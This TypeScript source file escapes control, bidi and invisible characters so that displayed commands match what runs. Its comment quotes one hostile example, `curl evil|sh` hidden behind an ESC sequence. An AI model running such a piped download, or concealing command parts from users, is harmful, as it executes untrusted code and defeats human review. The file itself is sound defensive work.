// Model-written text made safe to show: the rules of the server's tooling/display.py, so what
// the user reads of a command is what will run. An ESC sequence, a carriage return or a bidi
// override can hide or reorder part of a command (`git fetch #<ESC>[8m<newline>curl evil|sh`
// shows as `git fetch #` on a terminal); each such character is spelled out instead:
// ESC -> `\e`, CR -> `\r`, a newline -> `⏎` (unless kept), other C0/DEL/C1 controls -> `\xNN`,
// bidi and invisible formatting characters -> `\uXXXX`; tabs stay. Escaping twice changes
// nothing, so text the server already escaped may be escaped again.

export const NEWLINE_MARK = "⏎";

const CONTROLS = /[\x00-\x08\x0a-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/g;
const CONTROLS_BUT_NEWLINE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/g;

function spelled(char: string): string {
  if (char === "\x1b") return "\\e";
  if (char === "\r") return "\\r";
  if (char === "\n") return NEWLINE_MARK;
  const code = char.charCodeAt(0);
  return code < 0x100 ? `\\x${code.toString(16).padStart(2, "0")}` : `\\u${code.toString(16).padStart(4, "0")}`;
}

export function escapeControl(text: string, options: { keepNewlines?: boolean } = {}): string {
  return text.replace(options.keepNewlines ? CONTROLS_BUT_NEWLINE : CONTROLS, spelled);
}
